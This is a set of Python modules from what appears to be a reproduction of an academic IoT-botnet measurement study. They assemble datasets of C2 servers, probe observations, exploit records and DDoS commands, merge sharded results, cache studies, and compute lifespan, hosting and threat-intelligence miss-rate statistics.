    family_labels: set[str] = field(default_factory=set)
    sample_hashes: set[str] = field(default_factory=set)
    first_day: int = 10**9      # study day first referred by a sample
    last_day: int = -1          # study day last referred by a sample
    first_seen: float = float("inf")   # publication time of first referral
    last_seen: float = float("-inf")   # publication time of last referral
    live_observations: int = 0  # times we found it live
    vt_malicious_day0: bool = False
    vt_malicious_recheck: bool = False
    protocol_verified: bool = False   # traffic matched a known C2 protocol
    issued_attack: bool = False
    #: (day, sha256) of the profile whose analysis created this record;
    #: fixes creation order and first-referral fields across shard merges
    origin: tuple = ()
    #: links records of one rotating-domain (DGA) C2 across its daily
    #: names — the schedule seed recovered from the campaign's binaries.
    #: compare=False keeps the plain-run golden digests byte-identical;
    #: with ``--dga`` off it is always "".
    churn_key: str = field(default="", compare=False)

    @property
    def observed_lifespan_days(self) -> int:
        """Paper metric: interval between last and first observation.

        Reported in whole days with a one-day floor ("80% of the binaries
        have an observed lifespan of one day", section 3.2).
        """
        import math

        if self.last_seen < self.first_seen:
            return 0
        return max(1, math.ceil((self.last_seen - self.first_seen) / 86400.0))

    @property
    def verified(self) -> bool:
        """Section 2.3: valid if VT (either query) or protocol match."""
        return (self.vt_malicious_day0 or self.vt_malicious_recheck
                or self.protocol_verified)

    @property
    def distinct_samples(self) -> int:
        return len(self.sample_hashes)


@dataclass
class ProbeObservation:
    """One probe of one discovered C2 in the D-PC2 campaign."""

    c2_address: int
    c2_port: int
    slot: int                 # probe index (6 per day)
    when: float
    engaged: bool
    family_profile: str = ""


@dataclass
class ExploitRecord:
    """One (sample, vulnerability) pair in D-Exploits."""

    sha256: str
    vuln_key: str
    loader: str | None
    downloader: str | None
    day: int


@dataclass
class DdosRecord:
    """One observed DDoS command in D-DDOS."""

    c2_endpoint: str
    family: str
    command: AttackCommand
    when: float
    sample_hashes: set[str] = field(default_factory=set)
    verified: bool = False
    via_heuristic: bool = False
    #: (day, sha256, seq) of the creating profile's session; ``seq``
    #: orders records created within one observation session
    origin: tuple = ()

    @property
    def attack_type(self) -> str:
        return self.command.attack_type

    @property
    def target_protocol(self) -> str:
        """Target protocol class for Figure 10 (UDP/TCP/DNS/ICMP)."""
        method = self.command.method
        if method == "blacknurse":
            return "ICMP"
        if method in ("syn", "hydrasyn", "stomp"):
            return "TCP"
        if method == "tls" and self.family == "mirai":
            return "TCP"
        if self.command.target_port == 53:
            return "DNS"
        return "UDP"


@dataclass
class Datasets:
    """All study datasets plus the per-binary profiles."""

    profiles: list[BinaryNetworkProfile] = field(default_factory=list)
    d_c2s: dict[str, C2Record] = field(default_factory=dict)
    d_pc2: list[ProbeObservation] = field(default_factory=list)
    d_exploits: list[ExploitRecord] = field(default_factory=list)
    d_ddos: list[DdosRecord] = field(default_factory=list)
    #: (endpoint, command) -> record, so ddos_record dedup is O(1)
    _ddos_index: dict = field(default_factory=dict, compare=False, repr=False)
    #: sha256 -> profile, so per-binary lookup is O(1) (see
    #: :meth:`profile_by_sha256`); rebuilt lazily after merges/appends
    _profile_index: dict = field(default_factory=dict, compare=False,
                                 repr=False)
    #: shard indexes missing from a parallel merge (see ShardedStudyRunner);
    #: non-empty means *partial* data — excluded from equality on purpose,
    #: it describes how the value was produced, not the value itself
    failed_shards: list = field(default_factory=list, compare=False)

    # -- D-Samples ---------------------------------------------------------

    @property
    def d_samples(self) -> list[BinaryNetworkProfile]:
        return self.profiles

    def profile_by_sha256(self, sha256: str) -> BinaryNetworkProfile | None:
        """O(1) profile lookup by binary hash.

        The study deduplicates by sha256 (one profile per hash), so the
        index is a plain dict; like ``_ddos_index`` it is rebuilt lazily
        whenever its size disagrees with the profile list (appends,
        merges, cache restores).
        """
        index = self._profile_index
        if len(index) != len(self.profiles):
            index = self._profile_index = {
                p.sha256: p for p in self.profiles
            }
        return index.get(sha256)

    # -- assembly helpers used by the pipeline ------------------------------

    def c2_record(self, endpoint: str, port: int, is_dns: bool,
                  origin: tuple = ()) -> C2Record:
        record = self.d_c2s.get(endpoint)
        if record is None:
            record = C2Record(endpoint=endpoint, port=port, is_dns=is_dns,
                              origin=origin)
            self.d_c2s[endpoint] = record
        return record

    def ddos_record(
        self, c2_endpoint: str, family: str, command: AttackCommand,
        when: float, origin: tuple = (),
    ) -> DdosRecord:
        """Commands are deduplicated per (C2, command payload)."""
        key = (c2_endpoint, command)
        index = self._ddos_index
        if len(index) != len(self.d_ddos):   # rebuilt after merge/mutation
            index = self._ddos_index = {
                (r.c2_endpoint, r.command): r for r in self.d_ddos
            }
        record = index.get(key)
        if record is not None:
            return record
        record = DdosRecord(c2_endpoint=c2_endpoint, family=family,
                            command=command, when=when, origin=origin)
        self.d_ddos.append(record)
        index[key] = record
        return record

    # -- Table 1 --------------------------------------------------------------

    def exploit_sample_count(self) -> int:
        """Samples from which at least one exploit was extracted."""
        return len({record.sha256 for record in self.d_exploits})

    def probed_c2_count(self) -> int:
        return len({(o.c2_address, o.c2_port) for o in self.d_pc2})

    def summary(self) -> dict[str, int]:
        """The dataset-size rows of Table 1."""
        return {
            "D-Samples": len(self.profiles),
            "D-C2s": len(self.d_c2s),
            "D-PC2": len(self.d_pc2),
            "D-Exploits": self.exploit_sample_count(),
            "D-DDOS": len(self.d_ddos),
        }

    # -- sharded merge --------------------------------------------------------

    @classmethod
    def merge(cls, shards: Iterable["Datasets"]) -> "Datasets":
        """Deterministically combine shard outputs into the serial result.

        Invariant (property-tested): for shards produced by partitioning
        the collected samples by sha256, the merged value equals the
        ``Datasets`` a serial run builds — same profile order, same dict
        insertion order, same first-writer field values.  The origin
        tuples carried by C2/DDoS records are the global creation order;
        everything else is min/max, set union, or canonical sorting.
        """
        shards = list(shards)
        merged = cls()

        # D-Samples: the serial day loop emits profiles day-major and, within
        # a day, in the sha256 order of the sorted collection pull.
        merged.profiles = sorted(
            (p for shard in shards for p in shard.profiles),
            key=lambda p: (p.day, p.sha256),
        )

        # D-C2s: group by endpoint; the globally-earliest creator supplies
        # the creation-time fields (port, is_dns), everything cumulative is
        # folded in; insertion order is creation order, as in the serial run.
        by_endpoint: dict[str, list[C2Record]] = {}
        for shard in shards:
            for record in shard.d_c2s.values():
                by_endpoint.setdefault(record.endpoint, []).append(record)
        c2_merged: list[C2Record] = []
        for records in by_endpoint.values():
            records.sort(key=lambda r: r.origin)
            base = records[0]
            out = C2Record(
                endpoint=base.endpoint, port=base.port, is_dns=base.is_dns,
                origin=base.origin, churn_key=base.churn_key,
            )
            for record in records:
                out.family_labels |= record.family_labels
                out.sample_hashes |= record.sample_hashes
                out.first_day = min(out.first_day, record.first_day)
                out.last_day = max(out.last_day, record.last_day)
                out.first_seen = min(out.first_seen, record.first_seen)
                out.last_seen = max(out.last_seen, record.last_seen)
                out.live_observations += record.live_observations
                out.vt_malicious_day0 |= record.vt_malicious_day0
                out.vt_malicious_recheck |= record.vt_malicious_recheck
                out.protocol_verified |= record.protocol_verified
                out.issued_attack |= record.issued_attack
            c2_merged.append(out)
        c2_merged.sort(key=lambda r: (r.origin, r.endpoint))
        merged.d_c2s = {record.endpoint: record for record in c2_merged}

        # D-PC2: slot-major, (address, port) within a slot — the order the
        # probing campaign itself appends in.
        merged.d_pc2 = sorted(
            (o for shard in shards for o in shard.d_pc2),
            key=lambda o: (o.slot, o.c2_address, o.c2_port),
        )

        # D-Exploits: profile creation order; the sort is stable, so the
        # within-profile capture order of each shard is preserved.
        merged.d_exploits = sorted(
            (r for shard in shards for r in shard.d_exploits),
            key=lambda r: (r.day, r.sha256),
        )

        # D-DDOS: dedup per (C2, command) across shards; the earliest
        # creator wins the creation-time fields (when, family), flags OR,
        # hash sets union — exactly ddos_record()'s serial semantics.
        by_command: dict[tuple, list[DdosRecord]] = {}
        for shard in shards:
            for record in shard.d_ddos:
                key = (record.c2_endpoint, record.command)
                by_command.setdefault(key, []).append(record)
        ddos_merged: list[DdosRecord] = []
        for records in by_command.values():
            records.sort(key=lambda r: r.origin)
            base = records[0]
            out = DdosRecord(
                c2_endpoint=base.c2_endpoint, family=base.family,
                command=base.command, when=base.when, origin=base.origin,
            )
            for record in records:
                out.sample_hashes |= record.sample_hashes
                out.verified |= record.verified
                out.via_heuristic |= record.via_heuristic
            ddos_merged.append(out)
        ddos_merged.sort(key=lambda r: r.origin)
        merged.d_ddos = ddos_merged
        return merged
