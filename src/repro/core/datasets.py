"""The five study datasets (paper Table 1) assembled by the pipeline."""

from __future__ import annotations

from dataclasses import dataclass, field

from ..botnet.protocols.base import AttackCommand
from .profiles import BinaryNetworkProfile


@dataclass
class C2Record:
    """One C2 address in D-C2s with its cross-validation state."""

    endpoint: str               # IP literal or domain
    port: int
    is_dns: bool
    family_labels: set[str] = field(default_factory=set)
    sample_hashes: set[str] = field(default_factory=set)
    first_day: int = 10**9      # study day first referred by a sample
    last_day: int = -1          # study day last referred by a sample
    first_seen: float = float("inf")   # publication time of first referral
    last_seen: float = float("-inf")   # publication time of last referral
    live_observations: int = 0  # times we found it live
    vt_malicious_day0: bool = False
    vt_malicious_recheck: bool = False
    protocol_verified: bool = False   # traffic matched a known C2 protocol
    issued_attack: bool = False

    @property
    def observed_lifespan_days(self) -> int:
        """Paper metric: interval between last and first observation.

        Reported in whole days with a one-day floor ("80% of the binaries
        have an observed lifespan of one day", section 3.2).
        """
        import math

        if self.last_seen < self.first_seen:
            return 0
        return max(1, math.ceil((self.last_seen - self.first_seen) / 86400.0))

    @property
    def verified(self) -> bool:
        """Section 2.3: valid if VT (either query) or protocol match."""
        return (self.vt_malicious_day0 or self.vt_malicious_recheck
                or self.protocol_verified)

    @property
    def distinct_samples(self) -> int:
        return len(self.sample_hashes)


@dataclass
class ProbeObservation:
    """One probe of one discovered C2 in the D-PC2 campaign."""

    c2_address: int
    c2_port: int
    slot: int                 # probe index (6 per day)
    when: float
    engaged: bool
    family_profile: str = ""


@dataclass
class ExploitRecord:
    """One (sample, vulnerability) pair in D-Exploits."""

    sha256: str
    vuln_key: str
    loader: str | None
    downloader: str | None
    day: int


@dataclass
class DdosRecord:
    """One observed DDoS command in D-DDOS."""

    c2_endpoint: str
    family: str
    command: AttackCommand
    when: float
    sample_hashes: set[str] = field(default_factory=set)
    verified: bool = False
    via_heuristic: bool = False

    @property
    def attack_type(self) -> str:
        return self.command.attack_type

    @property
    def target_protocol(self) -> str:
        """Target protocol class for Figure 10 (UDP/TCP/DNS/ICMP)."""
        method = self.command.method
        if method == "blacknurse":
            return "ICMP"
        if method in ("syn", "hydrasyn", "stomp"):
            return "TCP"
        if method == "tls" and self.family == "mirai":
            return "TCP"
        if self.command.target_port == 53:
            return "DNS"
        return "UDP"


@dataclass
class Datasets:
    """All study datasets plus the per-binary profiles."""

    profiles: list[BinaryNetworkProfile] = field(default_factory=list)
    d_c2s: dict[str, C2Record] = field(default_factory=dict)
    d_pc2: list[ProbeObservation] = field(default_factory=list)
    d_exploits: list[ExploitRecord] = field(default_factory=list)
    d_ddos: list[DdosRecord] = field(default_factory=list)

    # -- D-Samples ---------------------------------------------------------

    @property
    def d_samples(self) -> list[BinaryNetworkProfile]:
        return self.profiles

    # -- assembly helpers used by the pipeline ------------------------------

    def c2_record(self, endpoint: str, port: int, is_dns: bool) -> C2Record:
        record = self.d_c2s.get(endpoint)
        if record is None:
            record = C2Record(endpoint=endpoint, port=port, is_dns=is_dns)
            self.d_c2s[endpoint] = record
        return record

    def ddos_record(
        self, c2_endpoint: str, family: str, command: AttackCommand, when: float
    ) -> DdosRecord:
        """Commands are deduplicated per (C2, command payload)."""
        for record in self.d_ddos:
            if record.c2_endpoint == c2_endpoint and record.command == command:
                return record
        record = DdosRecord(c2_endpoint=c2_endpoint, family=family,
                            command=command, when=when)
        self.d_ddos.append(record)
        return record

    # -- Table 1 --------------------------------------------------------------

    def exploit_sample_count(self) -> int:
        """Samples from which at least one exploit was extracted."""
        return len({record.sha256 for record in self.d_exploits})

    def probed_c2_count(self) -> int:
        return len({(o.c2_address, o.c2_port) for o in self.d_pc2})

    def summary(self) -> dict[str, int]:
        """The dataset-size rows of Table 1."""
        return {
            "D-Samples": len(self.profiles),
            "D-C2s": len(self.d_c2s),
            "D-PC2": len(self.d_pc2),
            "D-Exploits": self.exploit_sample_count(),
            "D-DDOS": len(self.d_ddos),
        }
