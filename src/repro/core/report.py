"""Plain-text rendering of the paper's tables and figures.

Benchmarks print these so a human can eyeball measured-vs-paper; nothing
here computes — it only formats the analysis modules' outputs.
"""

from __future__ import annotations

from ..analysis.stats import CdfPoint


def render_table(headers: list[str], rows: list[list], title: str = "") -> str:
    """Simple fixed-width table."""
    cells = [[str(c) for c in row] for row in rows]
    widths = [
        max(len(headers[i]), *(len(row[i]) for row in cells)) if cells
        else len(headers[i])
        for i in range(len(headers))
    ]
    lines = []
    if title:
        lines.append(title)
    lines.append("  ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append("  ".join("-" * w for w in widths))
    for row in cells:
        lines.append("  ".join(c.ljust(w) for c, w in zip(row, widths)))
    return "\n".join(lines)


def render_cdf(points: list[CdfPoint], title: str,
               value_label: str = "value", max_rows: int = 12) -> str:
    """A CDF as a coarse text table (quantile snapshots)."""
    if not points:
        return f"{title}\n(empty)"
    snapshots = []
    step = max(1, len(points) // max_rows)
    for index in range(0, len(points), step):
        snapshots.append(points[index])
    if snapshots[-1] is not points[-1]:
        snapshots.append(points[-1])
    rows = [[f"{p.value:g}", f"{p.fraction * 100:5.1f}%"] for p in snapshots]
    return render_table([value_label, "P(X<=x)"], rows, title=title)


def render_histogram(counts: dict, title: str, width: int = 40) -> str:
    """Horizontal bar chart for categorical counts."""
    if not counts:
        return f"{title}\n(empty)"
    peak = max(counts.values())
    lines = [title]
    for key, value in sorted(counts.items(), key=lambda kv: -kv[1]):
        bar = "#" * max(1, int(width * value / peak)) if value else ""
        lines.append(f"  {str(key):<28} {value:>5}  {bar}")
    return "\n".join(lines)


def render_heatmap(matrix: dict[int, list[int]], title: str) -> str:
    """Figure 1-style weekly heatmap as a character grid."""
    shades = " .:-=+*#%@"
    lines = [title]
    peak = max((max(row) for row in matrix.values() if row), default=1) or 1
    for key, row in matrix.items():
        cells = "".join(
            shades[min(len(shades) - 1, int(v / peak * (len(shades) - 1)))]
            for v in row
        )
        lines.append(f"  AS{key:<7} |{cells}|")
    return "\n".join(lines)


def render_probe_matrix(matrix: dict, title: str, per_day: int = 6) -> str:
    """Figure 4-style probe-response strip per discovered C2."""
    lines = [title]
    for (address, port), series in sorted(matrix.items()):
        from ..netsim.addresses import int_to_ip

        strip = "".join("#" if hit else "." for hit in series)
        lines.append(f"  {int_to_ip(address)}:{port:<6} |{strip}|")
    lines.append("  (# = responded, . = silent; "
                 f"{per_day} probes per day)")
    return "\n".join(lines)


def render_comparison(rows: list[tuple[str, str, str]], title: str) -> str:
    """paper-vs-measured summary table."""
    return render_table(
        ["metric", "paper", "measured"],
        [list(row) for row in rows],
        title=title,
    )
