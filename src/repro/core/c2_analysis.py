"""C2 hosting and lifespan analyses (section 3.1-3.2, Q1-Q3).

Feeds Table 2, Figures 1, 2, 3, 5, 6, 13 and the downloader co-location
result from the D-C2s / D-Exploits datasets.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..analysis.stats import CdfPoint, empirical_cdf, week_number
from ..intel.asdb import AsDatabase, AsRecord
from ..netsim.addresses import ip_to_int
from ..netsim.internet import STUDY_EPOCH
from .datasets import C2Record, Datasets


def _record_address(record: C2Record, resolver=None) -> int | None:
    """Best-effort address of a C2 record (IP literal only, for AS joins)."""
    if record.is_dns:
        return None
    return ip_to_int(record.endpoint)


@dataclass
class AsActivity:
    """Per-AS C2 presence."""

    record: AsRecord
    c2_count: int


def c2_as_distribution(datasets: Datasets, asdb: AsDatabase) -> list[AsActivity]:
    """C2 count per AS, descending (the backbone of Table 2 / Fig 13)."""
    counts: dict[int, int] = {}
    for record in datasets.d_c2s.values():
        address = _record_address(record)
        if address is None:
            continue
        owner = asdb.lookup(address)
        if owner is None:
            continue
        counts[owner.asn] = counts.get(owner.asn, 0) + 1
    activities = [
        AsActivity(asdb.get(asn), count) for asn, count in counts.items()
    ]
    activities.sort(key=lambda a: (-a.c2_count, a.record.asn))
    return activities


def top10_share(datasets: Datasets, asdb: AsDatabase) -> float:
    """Fraction of C2s hosted by the ten most active ASes (§3.1: 69.7%)."""
    activities = c2_as_distribution(datasets, asdb)
    total = sum(a.c2_count for a in activities)
    if total == 0:
        return 0.0
    return sum(a.c2_count for a in activities[:10]) / total


def table2_rows(datasets: Datasets, asdb: AsDatabase) -> list[dict]:
    """Measured Table 2: the top-10 ASes with their attributes."""
    rows = []
    for activity in c2_as_distribution(datasets, asdb)[:10]:
        record = activity.record
        rows.append({
            "as_name": record.name,
            "asn": record.asn,
            "country": record.country,
            "hosting": "Yes" if record.is_hosting else "No",
            "anti_ddos": {True: "Yes", False: "No", None: "N/A"}[record.anti_ddos],
            "c2_count": activity.c2_count,
        })
    return rows


def weekly_as_heatmap(
    datasets: Datasets, asdb: AsDatabase, weeks: int
) -> dict[int, list[int]]:
    """Figure 1: per-(top-AS, week) C2 counts.

    Returns ``{asn: [count per week]}`` for the ten most active ASes; a
    C2 is attributed to the week of its first referral.
    """
    top = [a.record.asn for a in c2_as_distribution(datasets, asdb)[:10]]
    matrix = {asn: [0] * weeks for asn in top}
    for record in datasets.d_c2s.values():
        address = _record_address(record)
        if address is None:
            continue
        owner = asdb.lookup(address)
        if owner is None or owner.asn not in matrix:
            continue
        week = week_number(record.first_seen, STUDY_EPOCH)
        if week < weeks:
            matrix[owner.asn][week] += 1
    return matrix


def lifetime_cdf(datasets: Datasets, dns: bool) -> list[CdfPoint]:
    """Figure 2 (dns=False) / Figure 3 (dns=True): lifespan CDFs."""
    spans = [
        record.observed_lifespan_days
        for record in datasets.d_c2s.values()
        if record.is_dns == dns
    ]
    return empirical_cdf(spans)


def samples_per_c2_cdf(datasets: Datasets, dns: bool) -> list[CdfPoint]:
    """Figure 5 (IPs) / Figure 6 (domains): binaries-per-C2 CDFs."""
    counts = [
        record.distinct_samples
        for record in datasets.d_c2s.values()
        if record.is_dns == dns
    ]
    return empirical_cdf(counts)


def as_count_cdf(datasets: Datasets, asdb: AsDatabase) -> list[CdfPoint]:
    """Figure 13: CDF of C2 volume over the AS ranking."""
    activities = c2_as_distribution(datasets, asdb)
    cumulative = 0
    total = sum(a.c2_count for a in activities) or 1
    points: list[CdfPoint] = []
    for rank, activity in enumerate(activities, start=1):
        cumulative += activity.c2_count
        points.append(CdfPoint(rank, cumulative / total))
    return points


def domain_churn_clusters(datasets: Datasets) -> dict[str, list[C2Record]]:
    """Group the DNS C2 records of one rotating (DGA) C2 together.

    Each daily domain produces its own :class:`C2Record`; the sandbox
    recovers the campaign's schedule seed from every binary's config —
    exactly how real defenders reverse a family's algorithm + seed — and
    the pipeline stamps it on the records as ``churn_key``.  Empty when
    the study ran without ``--dga``.
    """
    clusters: dict[str, list[C2Record]] = {}
    for record in datasets.d_c2s.values():
        if record.is_dns and record.churn_key:
            clusters.setdefault(record.churn_key, []).append(record)
    return clusters


def domain_churn_lifetime_cdf(datasets: Datasets) -> list[CdfPoint]:
    """New figure: rotating-C2 lifespan measured across all of its names.

    A churned C2's per-domain records each cap at roughly one day (the
    name dies with the day); the campaign-level span — last referral of
    any of its names minus the first — is the lifetime the rotation
    actually buys, in the same whole-day metric as Figures 2/3.
    """
    import math

    spans: list[int] = []
    for records in domain_churn_clusters(datasets).values():
        first = min(r.first_seen for r in records)
        last = max(r.last_seen for r in records)
        if last < first:
            continue
        spans.append(max(1, math.ceil((last - first) / 86400.0)))
    return empirical_cdf(spans)


def block_evasion_rate(datasets: Datasets) -> float:
    """New figure: day-0 reachability of rotating-domain C2s.

    The fraction of DGA-campaign referrals whose C2 was still reachable
    at first analysis despite blocklist pressure, registrar losses, and
    generation gaps — compare against ``1 - dead_on_arrival_rate`` for
    the static baseline.
    """
    endpoints = {
        record.endpoint
        for records in domain_churn_clusters(datasets).values()
        for record in records
    }
    referring = [p for p in datasets.profiles if p.c2_endpoint in endpoints]
    if not referring:
        return 0.0
    return sum(1 for p in referring if p.c2_live_on_day0) / len(referring)


def dead_on_arrival_rate(datasets: Datasets) -> float:
    """Fraction of C2-referring samples whose C2 was dead on day 0 (~60%)."""
    with_c2 = [p for p in datasets.profiles if p.has_c2]
    if not with_c2:
        return 0.0
    dead = sum(1 for p in with_c2 if not p.c2_live_on_day0)
    return dead / len(with_c2)


def mean_lifespan_days(datasets: Datasets, attack_only: bool = False) -> float:
    """Mean observed lifespan; attack-launching subset lives longer (§5)."""
    spans = [
        record.observed_lifespan_days
        for record in datasets.d_c2s.values()
        if record.issued_attack or not attack_only
    ]
    if attack_only:
        spans = [
            record.observed_lifespan_days
            for record in datasets.d_c2s.values()
            if record.issued_attack
        ]
    if not spans:
        return 0.0
    return sum(spans) / len(spans)


@dataclass
class DownloaderAnalysis:
    """Section 3.1's downloader/C2 co-location result."""

    distinct_downloaders: int
    not_c2_count: int
    ports: set[int]


def downloader_colocation(datasets: Datasets) -> DownloaderAnalysis:
    """Join D-Exploits downloader addresses against D-C2s."""
    downloaders: set[str] = set()
    ports: set[int] = set()
    for record in datasets.d_exploits:
        if not record.downloader:
            continue
        host, _, port_text = record.downloader.partition(":")
        downloaders.add(host)
        ports.add(int(port_text) if port_text else 80)
    c2_hosts = {record.endpoint for record in datasets.d_c2s.values()}
    not_c2 = {host for host in downloaders if host not in c2_hosts}
    return DownloaderAnalysis(
        distinct_downloaders=len(downloaders),
        not_c2_count=len(not_c2),
        ports=ports,
    )
