"""Persistent, content-addressed cache of completed studies.

A study's output is a pure function of ``(seed, scale, PipelineConfig)``
— that is the invariant PR 2/3 enforce — plus the code that computes it.
:class:`StudyCache` exploits this: :func:`study_fingerprint` hashes all
four ingredients (the fault plan and retry policies ride along inside
the config, the code version is a digest over the ``repro`` package
sources), and the cache stores the serialized :class:`Datasets` together
with the probing campaign's observations under that fingerprint.  A hit
reconstructs the exact bytes a fresh run would produce; any change to
seed, scale, faults, config, or code changes the fingerprint and misses.

Entries are self-verifying: ``magic + format version + payload sha256 +
pickle``.  Reads treat *any* mismatch — truncation, corruption, foreign
files, unpicklable payloads — as a miss and fall through to recompute;
writes are atomic (temp file + ``os.replace``) so a crashed writer never
leaves a half-entry behind.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import pickle
import tempfile

from .datasets import Datasets
from .pipeline import PipelineConfig

__all__ = ["CachedStudy", "StudyCache", "dataset_digest",
           "code_fingerprint", "study_fingerprint",
           "pack_entry", "unpack_entry", "write_atomic"]

#: entry file layout: magic + 1-byte format version + payload sha256
_MAGIC = b"RPSC"
_FORMAT_VERSION = 1
_HEADER_LEN = len(_MAGIC) + 1 + hashlib.sha256().digest_size

_CODE_FINGERPRINT: str | None = None


# -- canonical digests -------------------------------------------------------


def _canon(value):
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {
            "__type__": type(value).__name__,
            **{
                f.name: _canon(getattr(value, f.name))
                for f in dataclasses.fields(value)
                if f.compare
            },
        }
    if isinstance(value, dict):
        return [[_canon(k), _canon(v)] for k, v in value.items()]
    if isinstance(value, (set, frozenset)):
        return sorted(_canon(v) for v in value)
    if isinstance(value, (list, tuple)):
        return [_canon(v) for v in value]
    if isinstance(value, bytes):
        return value.hex()
    if isinstance(value, float):
        return repr(value)
    return value


def dataset_digest(datasets) -> str:
    """Canonical sha256 over a :class:`Datasets` (or any dataclass tree).

    Stable across processes and ``PYTHONHASHSEED`` values: sets are
    sorted, floats use ``repr``, and non-compare fields (caches, indexes)
    are excluded — two equal datasets always digest identically.  This is
    the byte-identity oracle used by the golden tests and the cache
    correctness tests.
    """
    text = json.dumps(_canon(datasets), separators=(",", ":"),
                      sort_keys=False)
    return hashlib.sha256(text.encode()).hexdigest()


def code_fingerprint() -> str:
    """sha256 over the ``repro`` package sources (memoized per process).

    A cached study must never survive a code change — the whole point of
    the optimization PRs is that behavior is a function of the sources.
    """
    global _CODE_FINGERPRINT
    if _CODE_FINGERPRINT is None:
        package_root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
        hasher = hashlib.sha256()
        for dirpath, dirnames, filenames in sorted(os.walk(package_root)):
            dirnames.sort()
            for name in sorted(filenames):
                if not name.endswith(".py"):
                    continue
                path = os.path.join(dirpath, name)
                hasher.update(os.path.relpath(path, package_root).encode())
                with open(path, "rb") as fh:
                    hasher.update(fh.read())
        _CODE_FINGERPRINT = hasher.hexdigest()
    return _CODE_FINGERPRINT


def study_fingerprint(seed: int, scale, config: PipelineConfig | None = None,
                      code: str | None = None) -> str:
    """Content address of one study: (seed, scale, config, code version).

    ``config=None`` fingerprints identically to an explicit default
    ``PipelineConfig()`` — they run the same study.  The fault plan and
    retry policies are dataclass fields of the config, so they are part
    of the address automatically.
    """
    ingredients = {
        "seed": seed,
        "scale": _canon(scale),
        "config": _canon(config or PipelineConfig()),
        "code": code if code is not None else code_fingerprint(),
    }
    text = json.dumps(ingredients, separators=(",", ":"), sort_keys=True)
    return hashlib.sha256(text.encode()).hexdigest()


# -- self-verifying entry framing --------------------------------------------
#
# Shared by the study cache and the service checkpoint store: one
# serialized object per file, framed as magic + format version + payload
# sha256 + pickle, written atomically.  Readers treat any anomaly as
# "entry does not exist".


def pack_entry(entry: object) -> bytes:
    """Frame one picklable object as a self-verifying blob."""
    payload = pickle.dumps(entry, protocol=pickle.HIGHEST_PROTOCOL)
    return (_MAGIC + bytes([_FORMAT_VERSION])
            + hashlib.sha256(payload).digest() + payload)


def unpack_entry(blob: bytes, expect: type = object):
    """Verify and unpickle a :func:`pack_entry` blob.

    Returns ``None`` on *any* anomaly — bad magic, version skew,
    checksum mismatch, unpicklable payload, or a payload that is not an
    ``expect`` instance.
    """
    if len(blob) <= _HEADER_LEN or not blob.startswith(_MAGIC):
        return None
    if blob[len(_MAGIC)] != _FORMAT_VERSION:
        return None
    checksum = blob[len(_MAGIC) + 1:_HEADER_LEN]
    payload = blob[_HEADER_LEN:]
    if hashlib.sha256(payload).digest() != checksum:
        return None
    try:
        entry = pickle.loads(payload)
    except Exception:
        return None
    return entry if isinstance(entry, expect) else None


def write_atomic(path: str, blob: bytes) -> None:
    """Write ``blob`` to ``path`` via temp file + ``os.replace``."""
    root = os.path.dirname(path) or "."
    os.makedirs(root, exist_ok=True)
    fd, tmp_path = tempfile.mkstemp(dir=root, suffix=".tmp")
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(blob)
        os.replace(tmp_path, path)
    except BaseException:
        try:
            os.unlink(tmp_path)
        except OSError:
            pass
        raise


# -- the cache ---------------------------------------------------------------


@dataclasses.dataclass
class CachedStudy:
    """Everything needed to reconstruct a study result without running it.

    The observations list and ``datasets.d_pc2`` share objects; pickling
    the bundle as one graph preserves that aliasing on load.
    """

    datasets: Datasets
    observations: list
    discovered: set


class StudyCache:
    """On-disk study store keyed by :func:`study_fingerprint`.

    ``hits`` / ``misses`` / ``rejected`` count lookups for telemetry and
    tests; ``rejected`` counts entries that existed but failed
    verification (and were treated as misses).
    """

    def __init__(self, root: str):
        self.root = str(root)
        self.hits = 0
        self.misses = 0
        self.rejected = 0
        self._lookups = None

    def bind_metrics(self, metrics) -> None:
        """Mirror lookups into ``study_cache_lookups_total{result=...}``.

        One increment per :meth:`get` — ``result`` is ``hit``, ``miss``,
        or ``rejected`` (an entry that existed but failed verification).
        The plain integer attributes keep counting either way.
        """
        self._lookups = metrics.counter(
            "study_cache_lookups_total",
            "study cache lookups by result (hit/miss/rejected)",
            labelnames=("result",))

    def _count(self, result: str) -> None:
        if self._lookups is not None:
            self._lookups.labels(result=result).inc()

    def path_for(self, fingerprint: str) -> str:
        return os.path.join(self.root, f"{fingerprint}.study")

    def get(self, fingerprint: str) -> CachedStudy | None:
        """The cached study for ``fingerprint``, or None on any doubt."""
        try:
            with open(self.path_for(fingerprint), "rb") as fh:
                blob = fh.read()
        except OSError:
            self.misses += 1
            self._count("miss")
            return None
        entry = self._verify(blob)
        if entry is None:
            self.rejected += 1
            self.misses += 1
            self._count("rejected")
            return None
        self.hits += 1
        self._count("hit")
        return entry

    @staticmethod
    def _verify(blob: bytes) -> CachedStudy | None:
        return unpack_entry(blob, CachedStudy)

    def put(self, fingerprint: str, entry: CachedStudy) -> str:
        """Atomically persist ``entry``; returns the entry path."""
        path = self.path_for(fingerprint)
        write_atomic(path, pack_entry(entry))
        return path
