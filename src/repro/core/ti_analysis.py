"""Threat-intelligence effectiveness (section 3.3, Q4).

Feeds Table 3 (the miss rates), Figure 7 (vendor-count CDF) and Table 7
(per-vendor detections over a 1000-C2 reference set).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..analysis.stats import CdfPoint, empirical_cdf
from ..feeds.virustotal import VirusTotalService
from .datasets import C2Record, Datasets


@dataclass
class MissRates:
    """One row pair of Table 3: same-day and re-query miss rates."""

    same_day: float
    recheck: float
    count: int


def _rates(records: list[C2Record]) -> MissRates:
    if not records:
        return MissRates(0.0, 0.0, 0)
    same_day = sum(1 for r in records if not r.vt_malicious_day0) / len(records)
    recheck = sum(1 for r in records if not r.vt_malicious_recheck) / len(records)
    return MissRates(same_day, recheck, len(records))


def table3(datasets: Datasets) -> dict[str, MissRates]:
    """Table 3: miss rates for all / IP-based / DNS-based verified C2s.

    Only *verified* C2s count (section 3.3): a miss means the feeds failed
    on an address we are confident is a real C2.
    """
    verified = [r for r in datasets.d_c2s.values() if r.verified]
    return {
        "All": _rates(verified),
        "IP-based": _rates([r for r in verified if not r.is_dns]),
        "DNS-based": _rates([r for r in verified if r.is_dns]),
    }


def vendor_count_cdf(
    datasets: Datasets, vt: VirusTotalService
) -> list[CdfPoint]:
